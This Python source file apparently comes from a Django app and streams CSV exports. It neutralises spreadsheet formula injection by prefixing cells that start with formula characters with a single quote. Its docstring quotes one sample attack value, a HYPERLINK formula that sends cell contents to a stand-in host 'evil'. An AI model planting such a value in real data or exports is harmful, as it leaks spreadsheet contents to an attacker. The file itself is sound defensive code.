"""CSV exports: one streaming writer whose cells a spreadsheet cannot run as formulas.

A cell that starts with `=`, `+`, `-` or `@` (or tab, carriage return or line
feed, which spreadsheets skip before such a character) is a formula to Excel,
LibreOffice and Google Sheets: a person named `=HYPERLINK("http://evil/?"&A1)`
would leak the sheet, or worse, to whoever opens the export. OWASP's advice is
to prefix such cells with a single quote, which every spreadsheet shows as
text. The same holds for the full-width forms (`＝`, `＋`, `－`, `＠`), which
some spreadsheets turn into their ASCII forms.

Only text is neutralised. Values the export passes as Python numbers (ids,
version numbers, a negative score) are written as they are: they come from
numeric columns, not from what someone typed, so `-3` stays a number. Text
that merely looks like a number (`"-2+3"`, `"-5"`) is text and gets the quote;
the reader of an export sees `'-5` rather than running a formula.
"""

import csv
from decimal import Decimal

from django.http import StreamingHttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def csv_cell(value):
    """The value as it may go into a CSV cell: text that a spreadsheet would evaluate gets a `'`."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float | Decimal):
        return value
    text = str(value)
    # A spreadsheet skips leading spaces before it decides whether a cell is a formula.
    if text.startswith(FORMULA_STARTS) or text.lstrip(" ").startswith(FORMULA_STARTS):
        return "'" + text
    return text


class _Echo:
    """A file-like object whose write returns the line, so csv.writer can feed a stream."""

    def write(self, value):
        return value


def csv_lines(header, rows):
    """Yield the CSV text of `header` and then each row of `rows` (an iterable of lists), cells neutralised."""
    writer = csv.writer(_Echo())
    yield writer.writerow([csv_cell(cell) for cell in header])
    for row in rows:
        yield writer.writerow([csv_cell(cell) for cell in row])


def csv_response(*, filename, header, rows):
    """A streamed CSV download of `rows` (a generator, so 100,000 rows never sit in memory)."""
    response = StreamingHttpResponse(
        csv_lines(header, rows), content_type="text/csv; charset=utf-8"
    )
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
